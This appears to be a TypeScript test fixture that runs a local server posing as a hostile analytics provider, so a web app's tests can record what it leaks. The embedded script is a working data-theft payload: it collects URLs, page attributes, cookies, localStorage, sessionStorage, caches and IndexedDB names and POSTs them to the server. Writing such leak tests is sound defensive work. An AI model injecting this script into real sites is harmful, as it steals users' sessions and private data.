import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'

/** Analytics providers that read every address they can, repeatedly. */
export interface HostileAnalytics {
  origin: string
  /** Requests to them, with headers. */
  requests: readonly string[]
  /** What their scripts read from the browser's storage. */
  stored: readonly string[]
  stop: () => Promise<void>
}

/** Interval of their reads, ms. */
const lookEvery = 20

/** Reads all places that may hold an address, and all storage, and sends what is new. */
const script = `{
  const sent = new Set();
  const look = () => {
    const found = [
      location.href, document.URL, document.referrer, document.title, JSON.stringify(history.state),
      ...performance.getEntries().map(({ name }) => name),
      ...(self.navigation?.entries() ?? []).map(({ url }) => url),
      ...[...document.querySelectorAll('*')].flatMap(({ attributes }) => [...attributes].map(({ value }) => value)),
      ...Object.entries(sessionStorage).flat(),
      JSON.stringify(self.dataLayer ?? []), self.name,
    ];
    tell('seen', found);
    tell('stored', [...Object.entries(localStorage).map((entry) => entry.join(' ')), document.cookie]);
  };
  const tell = (path, found) => {
    const news = found.filter((one) => one && !sent.has(one));
    for (const one of news) sent.add(one);
    const body = news.join('\\n');
    // browsers refuse keep-alive bodies of 64 kB or more
    for (let at = 0; at < body.length; at += 15000)
      fetch('__ORIGIN__/' + path, { method: 'POST', mode: 'no-cors', body: body.slice(at, at + 16000) });
  };
  const search = async () => {
    for (const name of await caches.keys()) {
      const requests = await (await caches.open(name)).keys();
      tell('stored', requests.map(({ url }) => url));
    }
    tell('stored', (await indexedDB.databases()).map((one) => JSON.stringify(one)));
  };
  setInterval(search, 500);
  new PerformanceObserver((list) => tell('seen', list.getEntries().map(({ name }) => name)))
    .observe({ type: 'resource', buffered: true });
  setInterval(look, ${lookEvery});
  for (const sign of ['popstate', 'hashchange', 'pagehide', 'click']) addEventListener(sign, look, true);
  for (const name of ['pushState', 'replaceState']) {
    const own = history[name].bind(history);
    history[name] = (state, title, href) => { sent.add(''); own(state, title, href); look(); };
  }
  self.navigation?.addEventListener('navigate', ({ destination }) =>
    fetch('__ORIGIN__/seen', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'to ' + destination.url }));
  look();
}`

export async function startHostileAnalytics(): Promise<HostileAnalytics> {
  const requests: string[] = []
  const stored: string[] = []
  let origin = ''
  const server = createServer(async (request, response) => {
    const body: Buffer[] = []
    for await (const chunk of request) body.push(chunk as Buffer)
    const line = `${request.method} ${request.url} ${JSON.stringify(request.headers)}\n${Buffer.concat(body)}`
    ;(request.url === '/stored' ? stored : requests).push(line)
    const isScript = request.method === 'GET'
    response.writeHead(isScript ? 200 : 204, { 'content-type': 'text/javascript' })
    response.end(isScript ? script.replaceAll('__ORIGIN__', origin) : '')
  })
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready))
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  return {
    origin,
    requests,
    stored,
    stop: () =>
      new Promise((done) => {
        server.closeAllConnections()
        server.close(() => done())
      }),
  }
}
